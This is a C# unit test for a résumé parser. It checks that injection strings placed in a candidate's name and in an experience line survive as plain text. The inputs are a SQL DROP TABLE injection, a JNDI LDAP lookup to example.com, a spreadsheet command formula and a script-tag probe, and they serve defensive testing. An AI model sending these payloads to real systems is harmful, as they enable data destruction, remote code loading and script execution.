using Interview.Core.Resumes;
using Interview.Tests.Content;

namespace Interview.Tests.Resumes;

[Trait("BadInput", "B-T09")]
public sealed class InertTextTests
{
    [Theory]
    [InlineData("Robert'); DROP TABLE candidates;--")]
    [InlineData("{{answer}} {{#each claims}}")]
    [InlineData("${jndi:ldap://example.com/a}")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("<script>alert(1)</script>")]
    public void What_looks_like_an_order_is_text_like_any_other(string text)
    {
        string[] lines = [$"성명\t{text}", "경력사항", "한빛커머스 | 백엔드 개발자 | 2021.03 ~ 현재", $"- {text} 을(를) 막는 필터를 개발했습니다"];

        var profile = ProfileReader.Read(
            new([.. lines.Select((line, index) => new TextLine(new(1, index + 1), line))], [], [], []), TestContent.Snapshot.ResumeVocabulary, TestContent.Snapshot.Skills).Profile;

        Assert.Equal(Flat(text), Flat(profile.Header.Name!));
        Assert.Equal($"{text} 을(를) 막는 필터를 개발했습니다", Assert.Single(Assert.Single(profile.Experience).Claims));
    }

    // A bar between cells is no letter of a name.
    private static string Flat(string text) => string.Concat(text.Where(letter => letter is not (' ' or '|')));
}
